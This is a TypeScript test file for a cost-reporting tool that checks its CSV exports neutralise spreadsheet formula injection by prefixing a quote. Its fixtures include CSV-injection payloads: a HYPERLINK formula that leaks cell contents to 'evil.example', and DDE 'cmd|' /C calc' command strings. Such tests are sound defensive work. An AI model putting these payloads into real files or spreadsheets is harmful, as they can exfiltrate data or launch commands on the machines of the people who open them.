/**
 * Issue #16, item 3: tag values such as `=HYPERLINK(…)`, `+1+cmd|…`, `@SUM(…)` reached every CSV
 * meant for a spreadsheet unescaped. Each such cell now starts with `'` (OWASP); numbers, negative
 * ones included, stay numbers; `sql --raw-csv` keeps cells exactly.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { configSchema } from '../../src/config.ts';
import { DuckDBEngine } from '../../src/engine/duckdb-engine.ts';
import { looksLikeFormula, neutraliseFormula, renderCsv } from '../../src/lib/csv.ts';
import { chargebackCsv } from '../../src/report/chargeback.ts';
import type { CostlensApp } from '../../src/server/app.ts';
import { parseCsv } from '../attribution/fixtures.ts';
import { costlens } from '../helpers/cli.ts';
import { appOn } from '../server/helpers.ts';
import { FORMULAS, RETITLE, hostileStore } from './fixtures.ts';

/**
 * `costlens attribute --tag team --period 2025-03 --format csv` on the hostile store, by hand:
 * 41.50 in all; `\t=1+1` (6.00) and `\r=1+1` (5.00) are values of their own (only spaces are trimmed
 * off a tag value: README "Tags the same everywhere"), each neutralised by a leading `'`, the one holding
 * a CR quoted; shares of 41.50 rounded by largest remainder (they add up to 100.00: the floors add up
 * to 99.92, and the eight largest remainders, -30.1205's .95 down to 19.2771's .71, take a cent each),
 * billed and effective shares alike (billed = effective here); the credit stays -12.50 and -30.12 %.
 */
const EXPECTED_CHARGEBACK = [
  'period,team,attributed_by,billed_direct,billed_shared_by_billed,billed_cost,effective_direct,effective_shared_by_effective,effective_cost,billed_share_pct,effective_share_pct',
  `2025-03,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",tag,10.00,0.00,10.00,10.00,0.00,10.00,24.09,24.09`,
  "2025-03,'+1+cmd|' /C calc'!A0,tag,9.00,0.00,9.00,9.00,0.00,9.00,21.68,21.68",
  "2025-03,'@SUM(1+1)*cmd|' /C calc'!A0,tag,8.00,0.00,8.00,8.00,0.00,8.00,19.28,19.28",
  "2025-03,'-2+3+cmd|' /C calc'!A0,tag,7.00,0.00,7.00,7.00,0.00,7.00,16.87,16.87",
  "2025-03,'\t=1+1,tag,6.00,0.00,6.00,6.00,0.00,6.00,14.46,14.46",
  `2025-03,"'\r=1+1",tag,5.00,0.00,5.00,5.00,0.00,5.00,12.05,12.05`,
  '2025-03,payments,tag,4.00,0.00,4.00,4.00,0.00,4.00,9.64,9.64',
  `2025-03,${RETITLE},tag,3.00,0.00,3.00,3.00,0.00,3.00,7.23,7.23`,
  '2025-03,refunds,tag,-12.50,0.00,-12.50,-12.50,0.00,-12.50,-30.12,-30.12',
  '2025-03,(untagged),untagged,2.00,0.00,2.00,2.00,0.00,2.00,4.82,4.82',
  '',
].join('\r\n');

/** No cell of a CSV would run as a formula in a spreadsheet. */
function expectNoFormula(csv: string): void {
  const { header, rows } = parseCsv(csv);
  for (const cell of [...header, ...rows.flat()]) expect(looksLikeFormula(cell), JSON.stringify(cell)).toBe(false);
}

describe('OWASP neutralising in src/lib/csv.ts', () => {
  it('prefixes = + - @ tab and CR with a quote; numbers, negative and scientific ones, stay numbers', () => {
    for (const formula of Object.values(FORMULAS)) expect(neutraliseFormula(formula)).toBe(`'${formula}`);
    for (const value of ['-12.50', '-0.0000000001', '1e-7', '-3E+2', '42', 'payments', "'=already quoted", '']) expect(neutraliseFormula(value)).toBe(value);
    for (const value of ['-', '+', '-inf', '-12.50 USD', '@', '=1']) expect(neutraliseFormula(value)).toBe(`'${value}`);
  });

  it('quotes fields RFC 4180 needs quoted, and keeps cells exactly when told to', () => {
    const rows = [['=1+1', '-12.50', 'a "b", c', '\r=2', null]];
    expect(renderCsv(['x', 'y', 'z', 'w', 'v'], rows, { formulas: 'neutralise' })).toBe(`x,y,z,w,v\r\n'=1+1,-12.50,"a ""b"", c","'\r=2",\r\n`);
    expect(renderCsv(['x', 'y', 'z', 'w', 'v'], rows, { formulas: 'keep', eol: '\n' })).toBe(`x,y,z,w,v\n=1+1,-12.50,"a ""b"", c","\r=2",\n`);
  });
});

describe('every CSV meant for a spreadsheet', () => {
  let db: string;
  let app: CostlensApp;
  beforeAll(async () => {
    ({ db } = await hostileStore());
    app = appOn(db);
  });
  afterAll(() => app.close());

  it('`costlens attribute --format csv` (the chargeback export) neutralises formulas and keeps -12.50 a number', async () => {
    const run = await costlens(db, 'attribute', '--tag', 'team', '--period', '2025-03', '--format', 'csv');
    expect(run.code).toBe(0);
    expect(run.stdout).toBe(EXPECTED_CHARGEBACK);
    expectNoFormula(run.stdout);
  });

  it('/attribution.csv is the same bytes', async () => {
    const response = await app.request('/attribution.csv?tag=team&period=2025-03');
    expect(response.status).toBe(200);
    expect(await response.text()).toBe(EXPECTED_CHARGEBACK);
  });

  it('the chargeback CSV attached to the finance e-mail is the same bytes', async () => {
    const engine = await DuckDBEngine.open(db);
    try {
      const attachment = await chargebackCsv(engine, configSchema.parse({}).attribution, 'team', '2025-03');
      expect(attachment.content.toString('utf8')).toBe(EXPECTED_CHARGEBACK);
    } finally {
      await engine.close();
    }
  });

  it('/api/queries/...?format=csv and `costlens query --format csv` neutralise formulas and keep the numbers', async () => {
    const params = { dimension: 'tag', tag_key: 'team', start: '2025-03-01', end: '2025-04-01' };
    const response = await app.request(`/api/queries/explore/spend_by?${new URLSearchParams({ ...params, format: 'csv' })}`);
    expect(response.status).toBe(200);
    const csv = await response.text();
    const cli = await costlens(db, 'query', 'explore/spend_by', ...Object.entries(params).flatMap(([k, v]) => ['--param', `${k}=${v}`]), '--format', 'csv');
    expect(cli.stdout).toBe(csv);
    expectNoFormula(csv);
    const { header, rows } = parseCsv(csv);
    const byValue = new Map(rows.map((row) => [row[header.indexOf('value')], row[header.indexOf('cost')]]));
    expect(byValue.get(`'${FORMULAS.hyperlink}`)).toBe('10.0000000000');
    expect(byValue.get(`'${FORMULAS.tab}`)).toBe('6.0000000000');
    expect(byValue.get(`'${FORMULAS.carriageReturn}`)).toBe('5.0000000000');
    expect(byValue.get('refunds')).toBe('-12.5000000000');
  });

  it('the analysis API csv neutralises formulas', async () => {
    const response = await app.request('/api/analyses/attribution/allocation?tag=team&period=2025-03&format=csv');
    expect(response.status).toBe(200);
    const csv = await response.text();
    expectNoFormula(csv);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`);
    expect(csv).toContain(",'@SUM(1+1)*cmd|' /C calc'!A0,");
  });

  it('`costlens sql --format csv` neutralises by default; --raw-csv prints cells exactly', async () => {
    const sql = "SELECT Tags['team'] AS team, BilledCost AS billed FROM line_items WHERE Tags['team'] IN ('refunds', '=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")') ORDER BY billed";
    const safe = await costlens(db, 'sql', sql, '--format', 'csv');
    expect(safe.stdout).toBe(`team,billed\r\nrefunds,-12.5000000000\r\n"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",10.0000000000\r\n`);
    const raw = await costlens(db, 'sql', sql, '--format', 'csv', '--raw-csv');
    expect(raw.stdout).toBe(`team,billed\r\nrefunds,-12.5000000000\r\n"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")",10.0000000000\r\n`);
    const misuse = await costlens(db, 'sql', 'SELECT 1', '--raw-csv');
    expect(misuse.code).toBe(2);
    expect(misuse.stderr).toBe('costlens: --raw-csv applies to --format csv only\n  hint: run `costlens sql --help` for its options\n');
  });
});
